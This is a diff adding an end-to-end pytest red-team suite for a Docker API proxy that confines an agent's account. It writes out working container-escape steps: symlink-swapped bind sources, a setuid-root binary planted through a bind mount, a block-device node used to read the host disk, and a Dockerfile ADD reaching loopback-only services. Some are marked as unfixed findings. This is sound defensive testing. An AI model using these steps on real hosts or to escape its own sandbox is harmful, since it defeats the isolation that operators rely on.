@@ -1,0 +1,467 @@
+"""Layer (b)'s attacker on the real engine: a shell as the agent's account and only the
+socket of `gatekeeper proxy` (this checkout's, started here with a policy of its own,
+in front of the stack's engine). Does the proxy ALONE confine it?
+
+Every case runs its control in the same test: the same steps sent by root to the bare
+engine socket (the defence off) show the effect the check is about, or the harmless
+twin of the request goes through the proxy; then the attack goes through the proxy.
+Findings the proxy does not stop yet are xfail(strict=True) with the reason.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from .stack import AGENT, AGENT_HOME, DOCKER_SOCKET, IMAGE, Stack, docker_client, engine
+
+pytestmark = pytest.mark.e2e
+
+PREFIX = "gk-rt-"
+BASE = AGENT_HOME / "work" / "gk-rt"
+TARGET = Path("/var/tmp/gk-rt-target")  # outside the allowed root, root's
+MARK = "gk-rt-target-mark"  # only TARGET holds it: a container that sees it has mounted TARGET
+SECRET = "s3cret-gk-rt"
+WAIT = 30.0
+
+POLICY = """\
+[docker]
+workdir = "{home}"
+
+[audit]
+path = "{audit}"
+syslog = false
+
+[proxy]
+listen = "{listen}"
+group = "{agent}"
+upstream = "{upstream}"
+
+[proxy.users]
+{agent} = "default"
+
+[shared]
+containers = ["{prefix}shared*"]
+"""
+
+
+RAW_CLIENT = """
+import http.client, socket, sys
+path, method, target, body = sys.argv[1:5]
+conn = http.client.HTTPConnection("docker", timeout=60)
+conn.sock = socket.socket(socket.AF_UNIX)
+conn.sock.connect(path)
+conn.request(method, target, body=body.encode() or None,
+             headers={"Content-Type": "application/json"} if body else {})
+answer = conn.getresponse()
+print(answer.status)
+print(answer.read().decode(errors="replace"))
+"""
+
+
+class AgentProxy:
+    """`gatekeeper proxy` of this checkout, and the agent's docker CLI on its socket only."""
+
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        self.listen = root / "docker.sock"
+        self.audit = root / "audit.jsonl"
+        self.policy = root / "policy.toml"
+        self.process: subprocess.Popen[bytes] | None = None
+
+    def start(self) -> None:
+        self.root.chmod(0o755)
+        self.audit.touch(mode=0o600)
+        self.policy.write_text(POLICY.format(home=AGENT_HOME, audit=self.audit, listen=self.listen,
+                                             agent=AGENT, upstream=DOCKER_SOCKET, prefix=PREFIX))
+        self.policy.chmod(0o644)
+        self.process = subprocess.Popen([sys.executable, "-m", "gatekeeper", "proxy", "--policy",
+                                         str(self.policy)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+        deadline = time.monotonic() + 20
+        while not self.listen.exists():
+            assert self.process.poll() is None, self.process.stderr.read()  # type: ignore[union-attr]
+            assert time.monotonic() < deadline, "the proxy did not start listening"
+            time.sleep(0.1)
+
+    def stop(self) -> None:
+        if self.process is not None and self.process.poll() is None:
+            self.process.terminate()
+            self.process.wait(10)
+
+    def docker(self, *args: str) -> subprocess.CompletedProcess[str]:
+        """The agent's docker CLI, as the agent, on the proxy's socket only (the legacy builder:
+        BuildKit's /grpc is refused by the proxy)."""
+        env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(AGENT_HOME),
+               "DOCKER_HOST": f"unix://{self.listen}", "DOCKER_BUILDKIT": "0"}
+        return as_agent([str(docker_client()), *args], env)
+
+    def api(self, method: str, target: str, body: object = None) -> tuple[int, str]:
+        """One raw API request as the agent (its own HTTP client, no docker CLI in between)."""
+        data = "" if body is None else json.dumps(body)
+        argv = ["/usr/bin/python3", "-I", "-c", RAW_CLIENT, str(self.listen), method, target, data]
+        result = as_agent(argv, {"PATH": "/usr/bin:/bin", "HOME": str(AGENT_HOME)})
+        status, _, text = ok(result).partition("\n")
+        return int(status), text
+
+    def shell(self, script: str) -> subprocess.CompletedProcess[str]:
+        """The agent's own shell on the host."""
+        return as_agent(["/bin/sh", "-c", script], {"PATH": "/usr/bin:/bin", "HOME": str(AGENT_HOME)})
+
+
+def as_agent(argv: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["/usr/sbin/runuser", "-u", AGENT, "--", *argv], env=env, capture_output=True,
+                          text=True, timeout=120, check=False, cwd="/")
+
+
+@pytest.fixture(scope="module")
+def agent(stack: Stack) -> Iterator[AgentProxy]:
+    root = Path(tempfile.mkdtemp(prefix="gk-rt-proxy-", dir="/run"))
+    proxy = AgentProxy(root)
+    proxy.start()
+    try:
+        yield proxy
+    finally:
+        proxy.stop()
+        remove_ours()
+        shutil.rmtree(root, ignore_errors=True)
+        shutil.rmtree(BASE, ignore_errors=True)
+        shutil.rmtree(TARGET, ignore_errors=True)
+
+
+def remove_ours() -> None:
+    names = engine("ps", "-aq", "--filter", f"name={PREFIX}").stdout.split()
+    if names:
+        engine("rm", "-f", *names)
+    images = engine("images", "-q", "--filter", f"reference={PREFIX}*").stdout.split()
+    if images:
+        engine("rmi", "-f", *images)
+
+
+@pytest.fixture
+def target(agent: AgentProxy) -> Iterator[Path]:
+    """TARGET with its mark, and the agent's BASE, both fresh."""
+    remove_ours()
+    for path in (TARGET, BASE):
+        shutil.rmtree(path, ignore_errors=True)
+    TARGET.mkdir(mode=0o755)
+    (TARGET / MARK).write_text("root's\n")
+    assert agent.shell(f"mkdir -p {BASE}/src").returncode == 0
+    yield TARGET
+    remove_ours()
+
+
+def wait_for(path: Path, timeout: float = WAIT) -> bool:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if path.exists():
+            return True
+        time.sleep(0.25)
+    return False
+
+
+def ok(result: subprocess.CompletedProcess[str]) -> str:
+    assert result.returncode == 0, result.stderr
+    return result.stdout
+
+
+# A container that proves it mounted TARGET by writing there (as root, outside the allowed root).
+PROVE = f"if [ -f /x/{MARK} ]; then echo owned > /x/proof; fi; touch /x/ran; sleep 1"
+SWAP = f"mv {BASE}/src {BASE}/src.old && ln -s {TARGET} {BASE}/src"
+
+
+# ---------------------------------------------------------------- the restart-after-swap class
+
+
+def test_start_after_the_agent_swapped_the_bind_source(agent: AgentProxy, target: Path) -> None:
+    """create with -v ~/work/gk-rt/src:/x through the proxy; the agent's shell swaps src for a
+    symlink to TARGET; `docker start`. Control: the same start sent by root to the bare
+    engine mounts TARGET (proof written there). Through the proxy: refused (host-path)."""
+    name = f"{PREFIX}swap"
+    ok(agent.docker("create", "--name", name, "-v", f"{BASE}/src:/x", IMAGE, "sh", "-c", PROVE))
+    ok(agent.docker("start", "-a", name))
+    assert (BASE / "src" / "ran").exists() and not (target / "proof").exists()
+    ok(agent.shell(SWAP))
+    ok(engine("start", "-a", name))  # control: the engine itself follows the link
+    assert (target / "proof").exists()
+    (target / "proof").unlink()
+    refused = agent.docker("start", "-a", name)
+    assert refused.returncode != 0 and "rule host-path)" in refused.stderr, refused.stderr
+    refused = agent.docker("restart", name)
+    assert refused.returncode != 0 and "rule host-path)" in refused.stderr, refused.stderr
+    assert not (target / "proof").exists()
+
+
+def test_restart_policy_on_a_bound_container(agent: AgentProxy, target: Path) -> None:
+    """A restart policy restarts the container (on exit, at a daemon restart) without asking the
+    proxy. Control: root's same `run --restart always -v src:/x` on the bare engine; the agent's
+    shell swaps src and the engine restarts the container onto TARGET. Through the proxy the
+    restart policy on a bound container is refused (flag-restart), at create and by update."""
+    name = f"{PREFIX}always"
+    ok(engine("run", "-d", "--name", name, "--restart", "always", "-v", f"{BASE}/src:/x", IMAGE,
+              "sh", "-c", PROVE))
+    assert wait_for(BASE / "src" / "ran") and not (target / "proof").exists()
+    ok(agent.shell(SWAP))
+    assert wait_for(target / "proof"), "control: the engine restarted the container onto TARGET"
+    ok(engine("rm", "-f", name))
+    (target / "proof").unlink()
+    ok(agent.shell(f"rm {BASE}/src && mv {BASE}/src.old {BASE}/src"))
+    refused = agent.docker("run", "-d", "--name", name, "--restart", "always", "-v", f"{BASE}/src:/x", IMAGE,
+                           "sh", "-c", PROVE)
+    assert refused.returncode != 0 and "rule flag-restart)" in refused.stderr, refused.stderr
+    ok(agent.docker("create", "--name", name, "-v", f"{BASE}/src:/x", IMAGE, "sh", "-c", PROVE))
+    assert agent.docker("update", "--restart", "always", name).returncode != 0
+    restart = json.loads(ok(engine("inspect", "--format", "{{json .HostConfig.RestartPolicy}}", name)))
+    assert restart.get("Name") in ("", "no"), restart
+
+
+# ---------------------------------------------------------------- ownership: labels images pass on
+
+
+def agent_image(agent: AgentProxy, name: str) -> None:
+    """The agent builds an image through the proxy (which adds the owner label to it)."""
+    context = BASE / "ctx"
+    ok(agent.shell(f"mkdir -p {context} && printf 'FROM {IMAGE}\\nLABEL app=x\\n' > {context}/Dockerfile"))
+    ok(agent.docker("build", "-q", "-t", name, str(context)))
+
+
+@pytest.mark.xfail(strict=True, reason="finding: the owner label the proxy puts on a built image is "
+                   "inherited by every container made from it: the operator's container of the agent's "
+                   "image counts as the agent's (inspect unredacted, stop, rm, logs, attach)")
+def test_operator_container_of_an_agent_image_stays_the_operators(agent: AgentProxy, target: Path) -> None:
+    image = f"{PREFIX}agentimg:1"
+    agent_image(agent, image)
+    ok(engine("run", "-d", "--name", f"{PREFIX}ops", "-e", f"DB_PASSWORD={SECRET}", IMAGE, "sleep", "600"))
+    ok(engine("run", "-d", "--name", f"{PREFIX}prod", "-e", f"DB_PASSWORD={SECRET}", image, "sleep", "600"))
+    control = ok(agent.docker("inspect", "--format", "{{json .Config.Env}}", f"{PREFIX}ops"))
+    assert SECRET not in control  # the operator's container of its own image: redacted
+    stop = agent.docker("stop", f"{PREFIX}ops")
+    assert stop.returncode != 0 and "scope-owned" in stop.stderr
+    leaked = ok(agent.docker("inspect", "--format", "{{json .Config.Env}}", f"{PREFIX}prod"))
+    assert SECRET not in leaked, "the operator's container of the agent's image is the agent's"
+
+
+@pytest.mark.xfail(strict=True, reason="finding: a Dockerfile LABEL is not vetted: labels the proxy refuses "
+                   "in a create body ([labels] refused, compose's project labels) reach the container "
+                   "through its image")
+def test_refused_label_through_the_image(agent: AgentProxy, target: Path) -> None:
+    context = BASE / "ctx"
+    ok(agent.shell(f"mkdir -p {context} && printf 'FROM {IMAGE}\\nLABEL com.docker.compose.project=ops "
+                   f"com.docker.compose.service=db\\n' > {context}/Dockerfile"))
+    project = "com.docker.compose.project=ops"
+    ok(engine("create", "--name", f"{PREFIX}opsdb", "--label", project, IMAGE, "true"))  # the operator's
+    refused = agent.docker("create", "--name", f"{PREFIX}direct", "--label", project,
+                           "--label", "com.docker.compose.service=db", IMAGE, "true")
+    assert refused.returncode != 0 and "refused-label" in refused.stderr, refused.stderr  # control
+    ok(agent.docker("build", "-q", "-t", f"{PREFIX}posing:1", str(context)))
+    made = agent.docker("create", "--name", f"{PREFIX}posing", f"{PREFIX}posing:1", "true")
+    if made.returncode == 0:
+        labels = json.loads(ok(engine("inspect", "--format", "{{json .Config.Labels}}", f"{PREFIX}posing")))
+        assert labels.get("com.docker.compose.project") != "ops", labels
+
+
+# ---------------------------------------------------------------- data leaving: others' objects
+
+
+def test_events_do_not_carry_the_operators_commands(agent: AgentProxy, target: Path) -> None:
+    """Events carry the operator's exec command lines and every label of its objects, which
+    inspect redacts. Control: the same events read by root on the bare engine hold the
+    secret; through the proxy only the agent's own objects' events come."""
+    since = str(int(time.time()) - 1)
+    ok(agent.docker("run", "-d", "--name", f"{PREFIX}evmine", IMAGE, "sleep", "600"))
+    ok(engine("run", "-d", "--name", f"{PREFIX}evops", "--label", f"db.password={SECRET}", IMAGE,
+              "sleep", "600"))
+    ok(engine("exec", f"{PREFIX}evops", "sh", "-c", f"true {SECRET}-exec"))
+    inspect = ok(agent.docker("inspect", "--format", "{{json .Config.Labels}}", f"{PREFIX}evops"))
+    assert SECRET not in inspect  # inspect redacts the secret-looking label
+    until = str(int(time.time()) + 1)
+    window = ("events", "--since", since, "--until", until, "--format", "{{json .}}")
+    assert f"{SECRET}-exec" in ok(engine(*window))  # control: the engine's own events hold it
+    events = ok(agent.docker(*window))
+    assert f"{PREFIX}evmine" in events  # the agent's own events are served
+    assert SECRET not in events, "the operator's command line and labels leak through events"
+
+
+def test_exec_cp_export_commit_refused_on_own_container(agent: AgentProxy, target: Path) -> None:
+    """The agent's own running container: root in it is fine, but exec/cp/export/commit would
+    carry data in or out unvetted. Control: root on the bare engine can do each."""
+    name = f"{PREFIX}own"
+    ok(agent.docker("run", "-d", "--name", name, IMAGE, "sleep", "600"))
+    ok(engine("exec", name, "true"))
+    for args in (("exec", name, "true"), ("cp", f"{name}:/etc/hostname", "/tmp/gk-rt-cp"),
+                 ("export", "-o", "/tmp/gk-rt-export.tar", name), ("commit", name, f"{PREFIX}committed:1")):
+        refused = agent.docker(*args)
+        assert refused.returncode != 0 and "api-unvetted" in refused.stderr, (args, refused.stderr)
+    assert not Path("/tmp/gk-rt-cp").exists() and not Path("/tmp/gk-rt-export.tar").exists()
+
+
+def test_proxy_records_the_attacks(agent: AgentProxy) -> None:
+    """Every decision above is in the proxy's own log, with the api layer and the agent's uid."""
+    records = [json.loads(line) for line in agent.audit.read_text().splitlines()]
+    assert records
+    uid = int(ok(subprocess.run(["id", "-u", AGENT], capture_output=True, text=True, check=False)))
+    assert {r.get("layer") for r in records} == {"api"}
+    assert all(r.get("uid") == uid for r in records if "uid" in r)
+    denied = [r for r in records if r.get("decision") == "deny"]
+    assert {"host-path", "api-unvetted", "scope-owned"} <= {r.get("rule") for r in denied}
+    assert all(r.get("profile") == "default" for r in records)
+
+
+# ---------------------------------------------------------------- the engine's own network reach
+
+
+@pytest.fixture
+def loopback_service() -> Iterator[str]:
+    """A service only the host's loopback reaches (a metadata endpoint, a local admin API)."""
+    import functools
+    import http.server
+    import threading
+
+    from .stack import free_port
+
+    root = Path(tempfile.mkdtemp(prefix="gk-rt-web-"))
+    (root / "secret").write_text(f"{SECRET}-loopback\n")
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/secret"
+    finally:
+        server.shutdown()
+        shutil.rmtree(root, ignore_errors=True)
+
+
+@pytest.mark.xfail(strict=True, reason="finding: a Dockerfile ADD <url> is fetched by the engine itself, "
+                   "on the host's network: the build reads services only the host's loopback reaches "
+                   "(networkmode=host is refused for RUN, but ADD needs no RUN)")
+def test_build_add_url_does_not_reach_the_hosts_loopback(agent: AgentProxy, target: Path,
+                                                        loopback_service: str) -> None:
+    fetch = agent.docker("run", "--rm", IMAGE, "wget", "-q", "-T", "3", "-O", "-", loopback_service)
+    assert SECRET not in fetch.stdout  # control: the agent's containers cannot reach it
+    context = BASE / "addctx"
+    ok(agent.shell(f"mkdir -p {context} && printf 'FROM {IMAGE}\\nADD {loopback_service} /secret\\n' "
+                   f"> {context}/Dockerfile"))
+    built = agent.docker("build", "-q", "-t", f"{PREFIX}add:1", str(context))
+    if built.returncode != 0:
+        assert "gatekeeper: denied" in built.stderr, built.stderr  # refused by the proxy, or a bug here
+        return
+    out = agent.docker("run", "--rm", f"{PREFIX}add:1", "cat", "/secret")
+    assert SECRET not in out.stdout, "the build fetched a loopback-only service into the agent's image"
+
+
+# ---------------------------------------------------------------- names the operator's objects already have
+
+
+def test_duplicate_network_name_with_an_old_api_version(agent: AgentProxy, target: Path) -> None:
+    """Engines before API 1.44 honour CheckDuplicate=false: a second network named like the
+    operator's, whose name then resolves to neither (the operator's `--network NAME` fails).
+    Control: the same request sent by root to the bare engine makes the duplicate."""
+    name = f"{PREFIX}opsnet"
+    request = {"Name": name, "CheckDuplicate": False}
+    ok(engine("network", "create", name))
+    try:
+        status, text = root_api("POST", "/v1.24/networks/create", request)
+        assert status == 201, text
+        assert len(networks_named(name)) == 2  # control: the engine makes it
+        engine("network", "rm", json.loads(text)["Id"])
+        status, text = agent.api("POST", "/v1.24/networks/create", request)
+        assert len(networks_named(name)) == 1, f"a second network {name!r} exists ({status} {text})"
+        assert status == 409, text
+    finally:
+        for network in networks_named(name):
+            engine("network", "rm", network)
+
+
+def networks_named(name: str) -> list[str]:
+    return ok(engine("network", "ls", "-q", "--filter", f"name=^{name}$")).split()
+
+
+def root_api(method: str, target: str, body: object) -> tuple[int, str]:
+    """Root on the bare engine socket (the defence off)."""
+    import http.client
+    import socket
+
+    conn = http.client.HTTPConnection("docker", timeout=60)
+    conn.sock = socket.socket(socket.AF_UNIX)
+    conn.sock.connect(str(DOCKER_SOCKET))
+    conn.request(method, target, body=json.dumps(body).encode(), headers={"Content-Type": "application/json"})
+    answer = conn.getresponse()
+    text = answer.read().decode(errors="replace")
+    conn.close()
+    return answer.status, text
+
+
+def test_volume_create_does_not_adopt_the_operators_volume(agent: AgentProxy, target: Path) -> None:
+    """`docker volume create NAME` of an existing volume answers with that volume: the owner
+    label the proxy adds must not make it the agent's. Control: the agent's own volume mounts."""
+    theirs, mine = f"{PREFIX}opsvol", f"{PREFIX}myvol"
+    ok(engine("volume", "create", theirs))
+    try:
+        ok(agent.docker("volume", "create", mine))
+        ok(agent.docker("run", "--rm", "-v", f"{mine}:/d", IMAGE, "true"))
+        agent.docker("volume", "create", theirs)
+        labels = ok(engine("volume", "inspect", "--format", "{{json .Labels}}", theirs))
+        assert "gatekeeper.owner" not in labels
+        refused = agent.docker("run", "--rm", "-v", f"{theirs}:/d", IMAGE, "true")
+        assert refused.returncode != 0 and "foreign-volume" in refused.stderr, refused.stderr
+    finally:
+        engine("volume", "rm", "-f", theirs, mine)
+
+
+# ---------------------------------------------------------------- root in a container, files on the host
+
+
+@pytest.mark.xfail(strict=True, reason="finding: root in the agent's container makes a file in a bind source "
+                   "setuid root (chown 0, chmod 4755): the agent's shell runs it and is root on the host "
+                   "(allowed roots on a suid mount; no user namespace remap; no --user forced)")
+def test_setuid_file_planted_through_a_bind(agent: AgentProxy, target: Path) -> None:
+    python = Path(os.path.realpath("/usr/bin/python3"))
+    escalate = (f"{BASE}/src/py -I -c \"import os; os.setuid(0); "
+                f"open('{target}/rootproof', 'w').write('root')\"")
+    ok(agent.shell(f"cp {python} {BASE}/src/py"))
+    control = agent.shell(escalate)
+    assert control.returncode != 0 and not (target / "rootproof").exists()  # control: not root yet
+    ok(agent.docker("run", "--rm", "-v", f"{BASE}/src:/x", IMAGE, "sh", "-c",
+                    "chown 0:0 /x/py && chmod 4755 /x/py"))
+    agent.shell(escalate)
+    assert not (target / "rootproof").exists(), "the agent's shell ran a setuid-root file and wrote as root"
+
+
+@pytest.mark.xfail(strict=True, reason="finding: root in the agent's container (CAP_MKNOD, docker's default) "
+                   "makes a block device node of the host's disk in a bind source; the device cgroup binds "
+                   "only the container, so the agent's shell reads the raw disk (allowed roots not nodev)")
+def test_device_node_planted_through_a_bind(agent: AgentProxy, target: Path) -> None:
+    source = findmnt_source("/")
+    disk = os.stat(source)
+    node = BASE / "src" / "disk"
+    read = f"head -c 512 {node} | wc -c"
+    # control: the real node is not the agent's to read
+    assert ok(agent.shell(f"head -c 512 {source} 2>/dev/null | wc -c")).strip() == "0"
+    made = agent.docker("run", "--rm", "-v", f"{BASE}/src:/x", IMAGE, "sh", "-c",
+                        f"mknod -m 0444 /x/disk b {os.major(disk.st_rdev)} {os.minor(disk.st_rdev)}")
+    try:
+        if made.returncode != 0:
+            assert "gatekeeper: denied" in made.stderr, made.stderr  # refused by the proxy, or a bug here
+            return
+        as_root = subprocess.run(["sh", "-c", read], capture_output=True, text=True, check=False)
+        if as_root.stdout.strip() != "512":
+            pytest.skip(f"block devices cannot be opened here, not even by root ({as_root.stderr.strip()}): "
+                        "the node was made through the proxy, the read cannot be shown on this machine")
+        reading = agent.shell(read)
+        assert reading.stdout.strip() != "512", "the agent's shell reads the host's disk through the node"
+    finally:
+        node.unlink(missing_ok=True)
+
+
+def findmnt_source(path: str) -> str:
+    return ok(subprocess.run(["findmnt", "-no", "SOURCE", "--target", path], capture_output=True, text=True,
+                             check=False)).strip()
